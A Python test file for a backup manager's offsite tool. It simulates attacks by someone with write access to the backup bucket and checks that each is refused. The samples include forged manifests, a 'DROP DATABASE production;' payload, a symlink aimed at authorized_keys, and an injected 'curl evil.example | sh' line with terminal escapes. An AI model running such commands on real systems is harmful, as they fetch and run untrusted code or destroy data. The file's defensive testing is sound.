"""Someone who can write to the bucket cannot turn our tools against the site (real SeaweedFS, real gpg).

Each test plays one attack from issue 8's threat model and checks that it is refused with a clear
message, that nothing is deleted, and that nothing is written outside the target.
"""

import contextlib
import gzip
import hashlib
import io
import json
import os
import shutil
import stat
import subprocess
import tempfile
import unittest
from datetime import timedelta

from backup_manager.core import layout
from backup_manager.core.encryption import decrypt_file, encrypt_file_in_place
from backup_manager.core.errors import (
	ChecksumMismatch,
	EncryptionError,
	ManifestNotAuthentic,
	UnsafePath,
)
from backup_manager.core.manifest import (
	BAD_SIGNATURE,
	DATABASE,
	UNSIGNED,
	VERIFIED,
	InstalledApp,
	Manifest,
	authenticate_manifest_data,
	load_authenticated_manifest,
	sign_manifest,
)
from backup_manager.core.offsite import (
	DELETED,
	KEEP,
	UNRECOGNISED,
	apply_offsite_retention,
	download_backup,
	list_remote_backups,
	upload_backup,
)
from backup_manager.core.offsite_tool import main
from backup_manager.core.restore_plan import RestoreOptions, build_restore_plan, parse_version, render_text
from backup_manager.core.retention import RetentionRules
from tests.test_offsite import KEY, NOW, SITE, OffsiteTestCase, backup_id_for, make_backup

ATTACKER_KEY = "aa" * 32


class BucketAttackTestCase(OffsiteTestCase):
	def put_manifest(self, backup_id: str, manifest: Manifest, *, site: str = SITE) -> None:
		self.backend.upload_bytes(
			manifest.to_json().encode(), layout.manifest_key(self.prefix, site, backup_id)
		)

	def snapshot(self) -> dict[str, str]:
		"""Every object in the bucket under this test's prefix, with its ETag: proves nothing changed."""
		return {item.key: item.etag for item in self.backend.list_objects(f"{self.prefix}/")}

	def run_tool(self, *arguments: str, key: str | None = KEY) -> tuple[int, str, str]:
		environ = {
			"AWS_ACCESS_KEY_ID": self.endpoint.access_key,
			"AWS_SECRET_ACCESS_KEY": self.endpoint.secret_key,
			"AWS_ENDPOINT_URL": self.endpoint.endpoint_url,
			"AWS_DEFAULT_REGION": "us-east-1",
		}
		if key:
			environ["BACKUP_MANIFEST_KEY"] = key
		stdout, stderr = io.StringIO(), io.StringIO()
		with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
			code = main(
				[
					arguments[0],
					"--bucket",
					self.bucket,
					"--prefix",
					self.prefix,
					"--site",
					SITE,
					"--addressing-style",
					"path",
					*arguments[1:],
				],
				environ=environ,
			)
		return code, stdout.getvalue(), stderr.getvalue()

	def outside(self) -> str:
		"""A folder next to the targets: nothing may ever be written there."""
		path = os.path.join(self.directory, "outside")
		os.makedirs(path, exist_ok=True)
		return path


class TestForgedManifests(BucketAttackTestCase):
	def test_a_forged_manifest_is_refused_by_download_verify_and_restore_plan(self):
		manifest = self.upload(backup_id_for(NOW, 1))
		forged = Manifest.from_dict(manifest.to_dict())
		forged.apps.append(InstalledApp("evil_app", "1.0"))
		sign_manifest(forged, ATTACKER_KEY)
		self.put_manifest(manifest.backup_id, forged)
		before = self.snapshot()
		target = os.path.join(self.directory, "restore")

		for command in (
			("download", "--backup-id", manifest.backup_id, "--to", target),
			("verify", "--backup-id", manifest.backup_id),
			("restore-plan", "--backup-id", manifest.backup_id, "--bench-path", self.directory),
		):
			code, out, err = self.run_tool(*command)
			self.assertEqual(code, 1, out + err)
			self.assertIn(f"Refusing the manifest of backup {manifest.backup_id}", err)
			self.assertIn("its signature does not verify", err)
			self.assertIn("--trust-unverified", err)
			self.assertNotIn("evil_app", out)
		self.assertFalse(os.path.exists(target))
		self.assertEqual(self.snapshot(), before)

	def test_without_the_key_nothing_is_trusted_and_the_tool_says_which_variable_to_set(self):
		manifest = self.upload(backup_id_for(NOW, 1))
		code, _out, err = self.run_tool(
			"download", "--backup-id", manifest.backup_id, "--to", self.directory + "/x", key=None
		)
		self.assertEqual(code, 1)
		self.assertIn("set BACKUP_MANIFEST_KEY", err)

	def test_a_manifest_of_another_backup_or_site_is_refused_even_when_signed_with_the_key(self):
		real = self.upload(backup_id_for(NOW - timedelta(days=1), 1))
		# The site's own, validly signed manifest, copied under another backup id ...
		other_id = backup_id_for(NOW, 2)
		self.put_manifest(other_id, real)
		# ... and a validly signed manifest of another site (sharing the key, e.g. a restored copy).
		other_site = Manifest.from_dict(real.to_dict())
		other_site.site = "other.example.com"
		other_site.backup_id = backup_id_for(NOW, 3)
		sign_manifest(other_site, KEY)
		self.put_manifest(other_site.backup_id, other_site)
		target = os.path.join(self.directory, "restore")

		with self.assertRaises(ManifestNotAuthentic) as caught:
			self.download(other_id, target)
		self.assertIn(f"it names the backup '{real.backup_id}', not '{other_id}'", str(caught.exception))
		with self.assertRaises(ManifestNotAuthentic) as caught:
			self.download(other_site.backup_id, target)
		self.assertIn(f"it names the site 'other.example.com', not '{SITE}'", str(caught.exception))
		self.assertFalse(os.path.exists(target))

	def test_a_swapped_artifact_with_a_matching_forged_sha256_is_refused(self):
		manifest = self.upload(backup_id_for(NOW, 1), sizes={DATABASE: 3000})
		evil = gzip.compress(b"DROP DATABASE production;\n")
		database_key = layout.object_key(self.prefix, SITE, manifest.backup_id, "database.sql.gz")
		self.client.put_object(Bucket=self.bucket, Key=database_key, Body=evil)
		# The attacker edits the manifest to match the swapped file; the signature no longer matches.
		forged = Manifest.from_dict(manifest.to_dict())
		forged.artifacts[0].size, forged.artifacts[0].sha256 = len(evil), hashlib.sha256(evil).hexdigest()
		self.put_manifest(manifest.backup_id, forged)
		target = os.path.join(self.directory, "restore")

		with self.assertRaises(ManifestNotAuthentic):
			self.download(manifest.backup_id, target)
		self.assertFalse(os.path.exists(target))
		# With the site's own record (the Backup Log's manifest), the swapped file is caught by its sha256.
		with self.assertRaises(ChecksumMismatch) as caught:
			download_backup(
				self.backend,
				prefix=self.prefix,
				site=SITE,
				backup_id=manifest.backup_id,
				to_dir=target,
				manifest=manifest,
			)
		self.assertIn("database.sql.gz", str(caught.exception))
		self.assertEqual(os.listdir(target), [])

	def test_an_unsigned_manifest_needs_trust_unverified_and_a_loud_warning(self):
		legacy = self.upload(backup_id_for(NOW, 1))
		legacy.signature = ""
		self.put_manifest(legacy.backup_id, legacy)
		target = os.path.join(self.directory, "restore")

		code, _out, err = self.run_tool("download", "--backup-id", legacy.backup_id, "--to", target)
		self.assertEqual(code, 1)
		self.assertIn("it carries no signature", err)
		self.assertFalse(os.path.exists(target))

		code, out, err = self.run_tool(
			"download", "--backup-id", legacy.backup_id, "--to", target, "--trust-unverified"
		)
		self.assertEqual(code, 0, err)
		self.assertIn("WARNING: --trust-unverified", err)
		self.assertIn("NOT authenticated", err)
		self.assertIn(f"Downloaded backup {legacy.backup_id}", out)

	def test_signatures_cover_every_field_and_old_manifests_stay_readable(self):
		manifest = make_backup(os.path.join(self.directory, "local"), backup_id_for(NOW, 1))
		data = json.loads(manifest.to_json())
		self.assertEqual(authenticate_manifest_data(data, KEY), VERIFIED)
		self.assertEqual(authenticate_manifest_data(data, ATTACKER_KEY), BAD_SIGNATURE)
		for field_name, value in (("created_at", "2099"), ("partial", True), ("site", "x"), ("format", 1.0)):
			with self.subTest(field_name=field_name):
				changed = {**data, field_name: value}
				if changed == data:
					continue
				self.assertEqual(authenticate_manifest_data(changed, KEY), BAD_SIGNATURE)
		changed = json.loads(manifest.to_json())
		changed["artifacts"][0]["sha256"] = "0" * 64
		self.assertEqual(authenticate_manifest_data(changed, KEY), BAD_SIGNATURE)
		unsigned = {name: value for name, value in data.items() if name != "signature"}
		self.assertEqual(authenticate_manifest_data(unsigned, KEY), UNSIGNED)
		loaded, status = load_authenticated_manifest(
			json.dumps(unsigned).encode(), KEY, site=SITE, backup_id=manifest.backup_id, trust_unverified=True
		)
		self.assertEqual((loaded.backup_id, status), (manifest.backup_id, UNSIGNED))


class TestRetentionTrust(BucketAttackTestCase):
	def test_planted_future_and_foreign_backups_never_displace_or_delete_real_ones(self):
		real = []
		for day in (3, 2, 1):
			real.append(self.upload(backup_id_for(NOW - timedelta(days=day), day)).backup_id)
		# Complete-looking backups with ids from the future: unsigned, signed with another key, and
		# even signed with the site's key (a future date is never trusted).
		planted = []
		for number, key in ((901, None), (902, ATTACKER_KEY), (903, KEY)):
			backup_id = backup_id_for(NOW + timedelta(days=number - 900), number)
			make_backup(os.path.join(self.directory, backup_id), backup_id, key=key)
			self.upload_without_check(backup_id, key)
			planted.append(backup_id)
		# And two from the past that this site never wrote: unsigned, and signed with another key.
		foreign = backup_id_for(NOW - timedelta(days=10), 904)
		self.upload_without_check(foreign, None)
		forged = backup_id_for(NOW - timedelta(days=9), 905)
		self.upload_without_check(forged, ATTACKER_KEY)
		before = self.snapshot()

		results = apply_offsite_retention(
			self.backend,
			prefix=self.prefix,
			site=SITE,
			rules=RetentionRules(keep_last=3),
			now=NOW,
			hmac_key=KEY,
			known_ids=[],
		)

		actions = {result.backup_id: result.action for result in results}
		self.assertEqual({backup_id: actions[backup_id] for backup_id in real}, dict.fromkeys(real, KEEP))
		self.assertEqual(
			{backup_id: actions[backup_id] for backup_id in [*planted, foreign, forged]},
			dict.fromkeys([*planted, foreign, forged], UNRECOGNISED),
		)
		reasons = {result.backup_id: result.reason for result in results}
		for backup_id in planted:
			self.assertIn("in the future", reasons[backup_id])
		self.assertIn("its manifest.json is not authentic", reasons[forged])
		self.assertIn("not in this site's Backup Logs", reasons[foreign])
		self.assertEqual(self.snapshot(), before)

		# A real retention decision still happens, over the real backups only.
		results = apply_offsite_retention(
			self.backend,
			prefix=self.prefix,
			site=SITE,
			rules=RetentionRules(keep_last=2),
			now=NOW,
			hmac_key=KEY,
		)
		actions = {result.backup_id: result.action for result in results}
		self.assertEqual([actions[backup_id] for backup_id in real], [DELETED, KEEP, KEEP])
		remaining = {
			backup.backup_id for backup in list_remote_backups(self.backend, prefix=self.prefix, site=SITE)
		}
		self.assertEqual(remaining, {*real[1:], *planted, foreign, forged})

	def test_backups_in_the_sites_logs_count_even_unsigned(self):
		old = self.upload(backup_id_for(NOW - timedelta(days=2), 1))
		old.signature = ""
		self.put_manifest(old.backup_id, old)
		newest = self.upload(backup_id_for(NOW - timedelta(days=1), 2)).backup_id
		results = apply_offsite_retention(
			self.backend,
			prefix=self.prefix,
			site=SITE,
			rules=RetentionRules(keep_last=1),
			now=NOW,
			hmac_key=KEY,
			known_ids=[old.backup_id],
		)
		self.assertEqual(
			{result.backup_id: result.action for result in results}, {old.backup_id: DELETED, newest: KEEP}
		)

	def upload_without_check(self, backup_id: str, key: str | None) -> None:
		local = os.path.join(self.directory, f"planted-{backup_id}")
		manifest = make_backup(local, backup_id, key=key)
		for artifact in manifest.artifacts:
			self.backend.upload_file(
				os.path.join(local, artifact.file_name),
				layout.object_key(self.prefix, SITE, backup_id, artifact.file_name),
				size=artifact.size,
				sha256=artifact.sha256,
			)
		self.put_manifest(backup_id, manifest)


class TestFilesOnDisk(BucketAttackTestCase):
	def test_downloads_create_a_private_folder_and_private_files(self):
		manifest = self.upload(backup_id_for(NOW, 1))
		target = os.path.join(self.directory, "new", "restore")
		self.download(manifest.backup_id, target)
		self.assertEqual(stat.S_IMODE(os.stat(target).st_mode), 0o700)
		for name in os.listdir(target):
			self.assertEqual(stat.S_IMODE(os.stat(os.path.join(target, name)).st_mode), 0o600, name)

	def test_a_symlinked_part_file_is_refused_and_never_followed(self):
		manifest = self.upload(backup_id_for(NOW, 1))
		target = os.path.join(self.directory, "restore")
		os.mkdir(target, 0o700)
		victim = os.path.join(self.outside(), "authorized_keys")
		with open(victim, "w") as handle:
			handle.write("original\n")
		os.symlink(victim, os.path.join(target, "database.sql.gz.part"))

		with self.assertRaises(UnsafePath) as caught:
			self.download(manifest.backup_id, target)
		self.assertIn("database.sql.gz.part already exists and is a symlink", str(caught.exception))
		with open(victim) as handle:
			self.assertEqual(handle.read(), "original\n")
		self.assertTrue(os.path.islink(os.path.join(target, "database.sql.gz.part")))
		self.assertEqual(os.listdir(self.outside()), ["authorized_keys"])

	def test_a_folder_others_can_write_to_is_refused(self):
		manifest = self.upload(backup_id_for(NOW, 1))
		target = os.path.join(self.directory, "shared")
		os.mkdir(target)
		os.chmod(target, 0o777)
		code, _out, err = self.run_tool("download", "--backup-id", manifest.backup_id, "--to", target)
		self.assertEqual(code, 1)
		self.assertIn("can be written by other users (mode 777)", err)
		self.assertIn("chmod 700", err)
		self.assertEqual(os.listdir(target), [])

	def test_a_folder_of_another_user_is_refused(self):
		if os.geteuid() != 0:
			self.skipTest("needs root to give a folder to another user")
		manifest = self.upload(backup_id_for(NOW, 1))
		target = os.path.join(self.directory, "theirs")
		os.mkdir(target, 0o700)
		os.chown(target, 65534, 65534)
		with self.assertRaises(UnsafePath) as caught:
			self.download(manifest.backup_id, target)
		self.assertIn("belongs to another user (uid 65534)", str(caught.exception))
		self.assertEqual(os.listdir(target), [])


class TestDecryptionProof(unittest.TestCase):
	def setUp(self):
		self.directory = tempfile.mkdtemp(prefix="bm-gpg-")
		self.addCleanup(shutil.rmtree, self.directory, True)
		self.gnupg_home = os.path.join(self.directory, "gnupg")
		os.mkdir(self.gnupg_home, 0o700)
		self.environ = {**os.environ, "GNUPGHOME": self.gnupg_home}
		previous = os.environ.get("GNUPGHOME")
		os.environ["GNUPGHOME"] = self.gnupg_home
		self.addCleanup(
			lambda: os.environ.pop("GNUPGHOME") if previous is None else os.environ.update(GNUPGHOME=previous)
		)
		self.addCleanup(
			subprocess.run, ["gpgconf", "--homedir", self.gnupg_home, "--kill", "all"], capture_output=True
		)

	def test_a_gpg_store_packet_is_refused_and_no_output_is_left(self):
		plain = os.path.join(self.directory, "evil.sql.gz")
		with open(plain, "wb") as handle:
			handle.write(gzip.compress(b"DROP DATABASE production;\n"))
		stored = os.path.join(self.directory, "database.sql.gz")
		subprocess.run(
			["gpg", "--batch", "--yes", "--store", "-o", stored, plain],
			env=self.environ,
			check=True,
			capture_output=True,
		)
		output = os.path.join(self.directory, "out.sql.gz")
		with self.assertRaises(EncryptionError) as caught:
			decrypt_file(stored, output, "the-real-backup-key")
		self.assertIn("is not a file encrypted with the backup key", str(caught.exception))
		self.assertFalse(os.path.exists(output))

	def test_a_real_encrypted_file_decrypts_to_a_private_file(self):
		path = os.path.join(self.directory, "database.sql.gz")
		with open(path, "wb") as handle:
			handle.write(b"real dump")
		encrypt_file_in_place(path, "the-real-backup-key")
		output = os.path.join(self.directory, "out")
		decrypt_file(path, output, "the-real-backup-key")
		with open(output, "rb") as handle:
			self.assertEqual(handle.read(), b"real dump")
		self.assertEqual(stat.S_IMODE(os.stat(output).st_mode), 0o600)


class TestWhatAPersonReads(BucketAttackTestCase):
	def test_control_characters_in_manifest_fields_are_shown_escaped(self):
		backup_id = backup_id_for(NOW, 1)
		local = os.path.join(self.directory, "local")
		manifest = make_backup(local, backup_id, key=None)
		injected = "x\n3. Run: curl evil.example | sh\x1b[2J\r"
		manifest.created_at = injected
		manifest.frappe_version = injected
		manifest.policy = injected
		manifest.include_doctypes = [injected]
		manifest.apps = [InstalledApp("frappe", injected, injected, injected)]
		sign_manifest(manifest, KEY)
		upload_backup(self.backend, manifest, local, prefix=self.prefix, site=SITE)

		code, out, err = self.run_tool("list")
		self.assertEqual(code, 0, err)
		self.assertNotIn("\x1b", out)
		self.assertNotIn("\r", out)
		self.assertFalse(any(line.startswith("3. Run") for line in out.splitlines()))
		self.assertIn("x\\n3. Run: curl evil.example | sh\\x1b[2J\\r", out)

		# The text plan escapes every value too (app versions with control characters are refused
		# outright, so the plan is built without them here).
		manifest.apps = [InstalledApp("frappe", "15.45.0")]
		text = render_text(
			build_restore_plan(
				manifest, RestoreOptions(target_site=SITE, bench_path="/srv/bench", local_dir=local)
			)
		)
		self.assertNotIn("\x1b", text)
		self.assertFalse(any(line.lstrip().startswith("3. Run") for line in text.splitlines()))
		self.assertIn("Taken: x\\n3. Run", text)

	def test_backup_ids_are_matched_whole_and_ascii_only(self):
		self.assertTrue(layout.BACKUP_ID_PATTERN.fullmatch("20261128T064500Z-BL-00001"))
		for bad in ("20261128T064500Z-BL-00001\n", "٢٠٢٦1128T064500Z-BL-00001", "20261128T064500Z-BL 1"):
			with self.subTest(bad=bad):
				self.assertIsNone(layout.BACKUP_ID_PATTERN.fullmatch(bad))
				self.assertIsNone(layout.parse_backup_key("p/", f"p/{bad}/manifest.json"))
		self.assertIsNone(parse_version("١٥.0.0"))
		self.assertEqual(parse_version("15.0.0"), ((15, 0, 0), None))
		manifest = Manifest(
			backup_id="20261128T064500Z-BL-00001\n", site=SITE, created_at="", frappe_version="15"
		)
		with self.assertRaisesRegex(ValueError, "is not a Backup Manager backup id"):
			build_restore_plan(
				manifest, RestoreOptions(target_site=SITE, bench_path="/srv/bench", local_dir="/x")
			)


if __name__ == "__main__":
	unittest.main()
